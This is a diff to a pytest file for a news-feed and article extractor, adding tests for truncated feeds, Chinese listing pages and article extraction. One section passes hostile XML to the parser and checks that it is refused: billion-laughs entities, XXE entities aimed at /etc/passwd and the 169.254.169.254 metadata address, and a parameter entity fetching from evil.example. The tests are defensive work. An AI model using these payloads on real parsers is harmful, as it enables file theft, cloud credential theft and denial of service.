@@ -3,7 +3,7 @@ bundled demo web served on 127.0.0.1."""
 
 from __future__ import annotations
 
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -13,10 +13,19 @@ from briefing.decode import decode
 from briefing.demo import DemoServer, load_outlets
 from briefing.demo.server import DemoStory, Outlet
 from briefing.errors import ParseError
-from briefing.extract import Article, Entry, extract_article, find_article_links, parse_feed
+from briefing.extract import (
+    Article,
+    Entry,
+    extract_article,
+    find_article_links,
+    find_listing_entries,
+    looks_like_feed,
+    parse_feed,
+    read_feed,
+)
+from briefing.records import Selectors
 from briefing.sources import load_sources
 
-UTC = timezone.utc
 BASE = "https://news.example.com/tech/"
 
 RSS = """<?xml version="1.0" encoding="utf-8"?>
@@ -342,3 +351,130 @@ def test_demo_listing_with_the_configured_selector(demo_web: DemoServer, demo_co
     links = find_article_links(fetch_text(source.url), source.url, source.selectors.link)
     outlet, _ = demo_story("silicon-strait-journal")
     assert [(u, t) for u, t in links] == [(demo_web.base_url + outlet.article_path(s), s.title) for s in outlet.stories]
+
+
+# -- hostile and malformed feeds ------------------------------------------------------------------------------
+
+FEED_BODY = (
+    '<rss version="2.0"><channel><title>t</title><link>https://e.org/</link><description>d</description>'
+    "<item><title>{title}</title><link>https://e.org/1.html</link><description>x</description></item></channel></rss>"
+)
+LAUGHS = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
+
+
+@pytest.mark.parametrize(
+    ("doctype", "title", "message"),
+    [
+        pytest.param(f'<!DOCTYPE rss [<!ENTITY l0 "lol">{LAUGHS}]>', "&l9;", "in terms of other entities", id="billion-laughs-one-line"),
+        pytest.param('<!DOCTYPE rss [\n<!ENTITY l0 "lol">\n<!ENTITY l1 "&l0;&l0;">\n]>', "&l1;", "in terms of other entities", id="billion-laughs-multiline"),
+        pytest.param('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", "external entity &xxe;", id="xxe-file"),
+        pytest.param('<!DOCTYPE rss [<!ENTITY xxe PUBLIC "-//x//y" "http://169.254.169.254/latest/">]>', "&xxe;", "external entity", id="xxe-url"),
+        pytest.param('<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', "x", "parameter entity %p;", id="parameter-entity"),
+        pytest.param(f'<!DOCTYPE rss [<!ENTITY big "{"x" * 5000}">]>', "&big;", "more than 200 characters", id="one-huge-entity"),
+        pytest.param('<!DOCTYPE rss [<!ENTITY a "<b>markup</b>">]>', "&a;", "with markup", id="markup-entity"),
+        pytest.param('<!DOCTYPE rss [<!ENTITY a "x"', "x", "never ends", id="unterminated-doctype"),
+    ],
+)
+def test_hostile_xml_is_refused_without_expanding_anything(doctype: str, title: str, message: str) -> None:
+    text = f'<?xml version="1.0"?>\n{doctype}\n' + FEED_BODY.format(title=title)
+    with pytest.raises(ParseError, match=message) as info:
+        parse_feed(text, "https://e.org/feed.xml")
+    assert str(info.value).startswith("https://e.org/feed.xml: refused:")
+
+
+@pytest.mark.parametrize(
+    ("doctype", "title", "expected"),
+    [
+        pytest.param('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">', "Plain &amp; simple", "Plain & simple", id="rss-091-doctype-dropped"),
+        pytest.param('<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY co "Example Co">]>', "Hub&nbsp;opens at &co;", "Hub opens at Example Co", id="plain-entities-substituted"),
+        pytest.param("<!-- a comment --><!DOCTYPE rss>", "Commented", "Commented", id="comment-before-doctype"),
+    ],
+)
+def test_harmless_doctypes_are_dropped_and_the_feed_read(doctype: str, title: str, expected: str) -> None:
+    [entry] = parse_feed(f'<?xml version="1.0"?>{doctype}' + FEED_BODY.format(title=title), "https://e.org/feed.xml")
+    assert entry.title == expected
+
+
+def test_truncated_feed_yields_what_can_be_recovered_and_says_so() -> None:
+    cut = RSS[: RSS.index("<title>A story without a date") + 20]
+    feed = read_feed(cut, BASE)
+    assert [e.title for e in feed.entries][:2] == ["Hub passes 50,000 PFLOPS & adds a 10,000-GPU cluster", "UHV line enters service"]
+    assert feed.problem is not None and feed.problem.startswith("malformed feed (") and "recovered" in feed.problem
+    assert read_feed(RSS, BASE).problem is None
+
+
+def test_html_page_where_a_feed_should_be_names_the_feed_it_links() -> None:
+    page = '<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" title="RSS" href="/rss.xml"></head><body>News</body></html>'
+    with pytest.raises(ParseError, match=r"got an HTML page \(the page names a feed: https://news.example.com/rss.xml\)"):
+        parse_feed(page, "https://news.example.com/feed")
+
+
+@pytest.mark.parametrize(
+    ("text", "feed"),
+    [
+        pytest.param(RSS, True, id="rss"),
+        pytest.param(ATOM, True, id="atom"),
+        pytest.param('<?xml version="1.0"?>\n<!-- c --><rdf:RDF xmlns:rdf="x">', True, id="rdf"),
+        pytest.param(LISTING, False, id="html"),
+    ],
+)
+def test_looks_like_feed(text: str, feed: bool) -> None:
+    assert looks_like_feed(text) is feed
+
+
+# -- listing pages with dates, Chinese listings and articles --------------------------------------------------
+
+ZH_LISTING = """<!doctype html><html><head><meta charset="utf-8"></head><body>
+<div class="nav"><a href="/">首页</a> <a href="/news/">新闻中心</a> <a href="/about">关于我们</a></div>
+<ul class="list">
+  <li><a href="/2026/11/20/suanli.html">全国智能算力规模超50万PFLOPS</a><span class="time">2026-11-20 14:30</span></li>
+  <li><a href="/2026/11/20/tegaoya.html">特高压工程投运</a> <em>3小时前</em></li>
+  <li><a href="/2026/11/19/xinpian.html">芯片量产</a><span class="time">11月19日</span></li>
+  <li><a href="/2026/11/18/liangzi.html"><time datetime="2026-11-18T09:00:00+08:00">18日</time> 量子通信网络完成新一轮测试</a></li>
+</ul></body></html>"""
+ZH_BASE = "https://news.example.cn/list/"
+NOW = datetime(2026, 11, 21, 4, 0, tzinfo=UTC)
+
+
+def test_chinese_listing_by_heuristics_with_the_dates_beside_the_links() -> None:
+    entries = find_listing_entries(ZH_LISTING, ZH_BASE, None, "Asia/Shanghai", NOW)
+    names = [e.url.rsplit("/", 1)[1] for e in entries]
+    assert names == ["suanli.html", "tegaoya.html", "liangzi.html"], "nav links and four-character headlines are out"
+    assert entries[0].published == datetime(2026, 11, 20, 6, 30, tzinfo=UTC)
+    assert entries[1].title == "特高压工程投运" and entries[1].published == datetime(2026, 11, 21, 1, 0, tzinfo=UTC)
+    assert entries[2].published == datetime(2026, 11, 18, 1, 0, tzinfo=UTC)
+
+
+def test_listing_with_title_and_date_selectors() -> None:
+    entries = find_listing_entries(ZH_LISTING, ZH_BASE, Selectors(link="ul.list a", date="span.time"), "Asia/Shanghai", NOW)
+    assert [e.title for e in entries] == ["全国智能算力规模超50万PFLOPS", "特高压工程投运", "芯片量产", "18日 量子通信网络完成新一轮测试"]
+    assert [e.published for e in entries] == [
+        datetime(2026, 11, 20, 6, 30, tzinfo=UTC),
+        datetime(2026, 11, 21, 1, 0, tzinfo=UTC),  # no span.time in its item: the date printed beside the link
+        datetime(2026, 11, 18, 16, 0, tzinfo=UTC),
+        datetime(2026, 11, 18, 1, 0, tzinfo=UTC),  # a <time datetime> in the item
+    ]
+
+
+ZH_PARAGRAPHS = [
+    "11月20日，国家数据局在北京召开新闻发布会，介绍全国一体化算力网建设进展。截至目前，全国智能算力规模已超过50万PFLOPS。",
+    "国家数据局副局长表示，东数西算工程八大枢纽节点建设加快推进，新建数据中心平均电能利用效率降至1.3以下。",
+    "下一步，将推动算力资源跨区域调度，降低算力使用成本，支持人工智能大模型训练和推理需求。",
+]
+ZH_ARTICLE = f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>全国智能算力规模超50万PFLOPS_新闻中心_示例网</title></head>
+<body><div class="top"><a href="/">首页</a> | <a href="/news/">新闻中心</a> | <a href="/login">登录</a> | <a href="/reg">注册</a></div>
+<div class="nav"><ul><li><a href="/a">要闻</a></li><li><a href="/b">科技</a></li><li><a href="/c">财经</a></li></ul></div>
+<div class="main"><h1>全国智能算力规模超50万PFLOPS</h1><div class="info">2026年11月20日 14:30 来源：示例日报 作者：张三</div>
+<div class="content">{"".join(f"<p>{p}</p>" for p in ZH_PARAGRAPHS)}</div><div class="editor">责任编辑：李四</div>
+<div class="share">分享到：微信 微博</div></div>
+<div class="related"><h3>相关新闻</h3><ul><li><a href="/x1">算力网建设再提速</a></li><li><a href="/x2">数据中心绿色发展行动计划发布</a></li></ul></div>
+<div class="footer">版权所有 示例网 京ICP备12345678号 联系我们 关于我们</div></body></html>"""
+
+
+def test_chinese_article_text_and_the_printed_time() -> None:
+    article = extract_article(ZH_ARTICLE, "https://news.example.cn/2026/11/20/a.html", "Asia/Shanghai", NOW)
+    assert article.title == "全国智能算力规模超50万PFLOPS"
+    assert article.text == "\n\n".join(ZH_PARAGRAPHS)
+    for junk in ("首页", "登录", "责任编辑", "分享到", "相关新闻", "版权所有", "京ICP备"):
+        assert junk not in article.text
+    assert article.published == datetime(2026, 11, 20, 6, 30, tzinfo=UTC), "the byline's time, not midnight"
